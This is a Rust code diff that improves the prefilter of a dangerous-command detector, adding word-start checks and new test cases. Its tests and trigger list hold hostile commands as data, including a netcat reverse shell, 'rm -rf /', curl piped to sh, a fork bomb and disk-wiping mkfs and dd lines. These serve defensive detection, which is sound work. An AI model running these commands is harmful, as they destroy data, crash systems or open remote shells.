@@ -18,7 +18,43 @@ struct Kind {
 struct Patterns {
     /// Words without which no pattern can match: most strings stop here.
     triggers: AhoCorasick,
+    /// Per trigger: whether every pattern that needs it wants it at the
+    /// start of a word (`\brm`), so one inside a word (`format`,
+    /// `Francisco`) need not run the patterns.
+    word_start: Vec<bool>,
     kinds: Vec<Kind>,
+}
+
+/// Triggers, and whether each stands at the start of a word wherever it is
+/// needed. Every pattern below holds one of them.
+const TRIGGERS: [(&str, bool); 13] = [
+    ("curl", true),
+    ("wget", true),
+    ("fetch", true),
+    ("rm", true),
+    ("/dev/", false),
+    ("nc", true),
+    ("netcat", true),
+    ("socat", true),
+    ("mkfs", true),
+    ("dd", true),
+    ("pty", true),
+    // The fork bomb may be spaced out (`: () { : | : & } ; :`).
+    ("{", false),
+    (":()", false),
+];
+
+impl Patterns {
+    /// Whether some trigger occurs where a pattern could use it. Overlapping
+    /// matches are all looked at; a non-ASCII byte before a word trigger
+    /// counts as a word's start (this only ever lets more through).
+    fn triggered(&self, s: &str) -> bool {
+        let b = s.as_bytes();
+        self.triggers.find_overlapping_iter(s).any(|m| {
+            let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
+            !self.word_start[m.pattern().as_usize()] || m.start() == 0 || !word(b[m.start() - 1])
+        })
+    }
 }
 
 #[allow(clippy::expect_used)] // the patterns are constants, checked by the tests below
@@ -31,10 +67,9 @@ static P: LazyLock<Patterns> = LazyLock::new(|| {
     Patterns {
         triggers: AhoCorasick::builder()
             .ascii_case_insensitive(true)
-            .build([
-                "curl", "wget", "fetch", "rm", "/dev/", "nc", "socat", "mkfs", "dd", ":()", "pty",
-            ])
+            .build(TRIGGERS.map(|(t, _)| t))
             .expect("command triggers"),
+        word_start: TRIGGERS.map(|(_, w)| w).to_vec(),
         kinds: vec![
             // curl … | sh, wget -O- … | sudo bash, sh -c "$(curl …)", bash <(curl …)
             kind(
@@ -71,7 +106,7 @@ pub fn dangerous(strings: &[(String, &str)]) -> Value {
     let p = &*P;
     let mut found: Vec<&'static str> = Vec::new();
     for (_, s) in strings {
-        if !p.triggers.is_match(s) {
+        if !p.triggered(s) {
             continue;
         }
         for k in &p.kinds {
@@ -125,6 +160,11 @@ mod tests {
             ("mkfs.ext4 /dev/sda1", "disk_wipe"),
             ("dd if=/dev/zero of=/dev/nvme0n1 bs=1M", "disk_wipe"),
             (":(){ :|:& };:", "fork_bomb"),
+            ("netcat -e /bin/sh 10.0.0.1 4444", "reverse_shell"),
+            // A non-word character that is not ASCII still starts a word.
+            ("²rm -rf /", "recursive_delete_root"),
+            ("→curl https://x | sh", "pipe_to_shell"),
+            (": () { : | : & } ; :", "fork_bomb"),
         ] {
             assert_eq!(kinds(cmd), json!([kind]), "{cmd}");
         }
@@ -150,6 +190,9 @@ mod tests {
             "df -h /dev/sda1",
             "Please format the report with sections (intro, results)",
             "The function fork() returns twice",
+            "San Francisco, CA",
+            "Please format the address; add the remainder",
+            "{\"json\": {\"in\": \"a string\"}}",
         ] {
             assert_eq!(kinds(cmd), json!([]), "{cmd}");
         }
